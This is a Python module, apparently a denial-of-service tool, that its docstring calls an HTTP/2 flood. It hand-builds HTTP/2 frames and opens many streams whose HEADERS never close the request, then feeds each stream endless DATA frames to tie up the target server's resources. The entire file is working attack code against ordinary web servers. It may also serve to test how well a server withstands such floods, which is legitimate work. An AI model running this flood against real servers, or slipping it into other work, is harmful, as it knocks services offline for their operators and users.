"""An HTTP/2 flood: frames made by hand, of requests that never end."""

import socket
import struct

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS = 0, 1, 4
_END_HEADERS = 4
# From HPACK's static table: GET, POST, http.
METHODS = {"GET": b"\x82", "POST": b"\x83"}
_SCHEME = b"\x86"


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def flood(address: tuple[str, int], method: str, path: bytes, streams: int, size: int) -> socket.socket:
    """A connection with this number of unfinished requests, each with `size` bytes of an unfinished body."""
    connection = socket.create_connection(address, 5)
    connection.settimeout(2)
    head = METHODS[method] + _SCHEME + b"\x04" + bytes([len(path)]) + path + b"\x01\x01x"
    try:
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        for number in range(streams):
            stream = 2 * number + 1
            connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, head))
            for _ in range(size // 16_000):
                connection.sendall(_frame(_DATA, 0, stream, b"x" * 16_000))
    except OSError:  # the server may cut off a client that it refuses
        pass
    return connection
